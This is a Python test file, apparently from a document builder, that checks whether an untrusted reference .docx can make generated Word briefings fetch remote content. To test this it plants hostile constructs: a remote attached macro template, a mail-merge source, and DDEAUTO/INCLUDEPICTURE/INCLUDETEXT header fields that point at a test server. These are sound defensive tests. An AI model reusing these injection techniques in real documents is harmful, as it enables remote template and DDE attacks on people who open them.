"""Promise 1 for the DOCX: a briefing opened in Word reaches nowhere, whatever the reference .docx held.

A reference document (``docx.reference`` in an event's or a theme's
theme.toml) lends its styles and page furniture to every DOCX built with it.
It came with the folder, so it is untrusted: an attached template on a
server (the classic way to make Word fetch, and run, a macro template when a
document opens), a linked picture or a mail-merge source would travel into
each briefing. Every external relationship but a hyperlink is dropped;
fields that fetch when the document opens are refused.
"""

from __future__ import annotations

import zipfile

import pytest
from helpers import EVENT, assert_ok
from trust_helpers import Attack, plant_reference_docx

DOCX = ("-f", "docx", "-d", "fact-sheet")
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _external(r_id: str, kind: str, target: str) -> str:
    return f'<Relationship Id="{r_id}" Type="{TYPE}{kind}" Target="{target}" TargetMode="External"/>'


def _attached_template(a: Attack) -> None:
    def settings(data: bytes) -> bytes:
        return data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1)

    plant_reference_docx(
        a,
        {"word/settings.xml": settings},
        {
            "word/_rels/settings.xml.rels": RELS.format(
                _external("rIdEvil", "attachedTemplate", a.network.url("evil.dotm"))
            )
        },
    )


def _mail_merge_source(a: Attack) -> None:
    def settings(data: bytes) -> bytes:
        return data.replace(
            b"<w:zoom",
            b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            b'<w:dataSource r:id="rIdData"/></w:mailMerge><w:zoom',
            1,
        )

    plant_reference_docx(
        a,
        {"word/settings.xml": settings},
        {
            "word/_rels/settings.xml.rels": RELS.format(
                _external("rIdData", "mailMergeSource", a.network.url("data.csv"))
            )
        },
    )


def _read_docx(a: Attack) -> dict[str, str]:
    with zipfile.ZipFile(a.build_dir / EVENT / "fact-sheet.docx") as docx:
        return {
            n: docx.read(n).decode("utf-8", "replace")
            for n in docx.namelist()
            if n.endswith((".xml", ".rels"))
        }


@pytest.mark.parametrize(
    "plant",
    [_attached_template, _mail_merge_source],
    ids=["reference-docx-attached-template-on-a-server", "reference-docx-mail-merge-source"],
)
def test_a_reference_docx_cannot_make_the_briefing_call_home(attacked: Attack, plant):
    plant(attacked)
    assert_ok(attacked.build(*DOCX))
    attacked.assert_nothing_leaked()
    parts = _read_docx(attacked)
    for name, xml in parts.items():
        assert f"127.0.0.1:{attacked.network.port}" not in xml, f"{name} still points at the server"
        assert 'TargetMode="External"' not in xml or "relationships/hyperlink" in xml, name
    assert "attachedTemplate" not in parts["word/settings.xml"]
    assert "w:dataSource" not in parts["word/settings.xml"]


@pytest.mark.parametrize("field", ["INCLUDEPICTURE", "DDEAUTO", "INCLUDETEXT"])
def test_a_reference_docx_header_field_that_fetches_is_refused(attacked: Attack, field):
    """A header of the reference document with a field Word fetches (or runs) on open."""
    url = attacked.network.url("x.png")
    header = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:hdr '
        f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" {R}><w:p><w:r>'
        f'<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {field} '
        f'"{url}" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'
    )

    def document(data: bytes) -> bytes:
        return (
            data.replace(
                b"<w:sectPr",
                b'<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr><w:sectPr',
                1,
            )
            if b"<w:sectPr" in data
            else data
        )

    def rels(data: bytes) -> bytes:
        return data.replace(
            b"</Relationships>",
            f'<Relationship Id="rIdH" Type="{TYPE}header" Target="header9.xml"/></Relationships>'.encode(),
        )

    def types(data: bytes) -> bytes:
        return data.replace(
            b"</Types>",
            b'<Override PartName="/word/header9.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>',
        )

    plant_reference_docx(
        attacked,
        {"word/_rels/document.xml.rels": rels, "[Content_Types].xml": types, "word/document.xml": document},
        {"word/header9.xml": header},
    )
    attacked.refused(attacked.build(*DOCX), 4, "ref.docx", field)
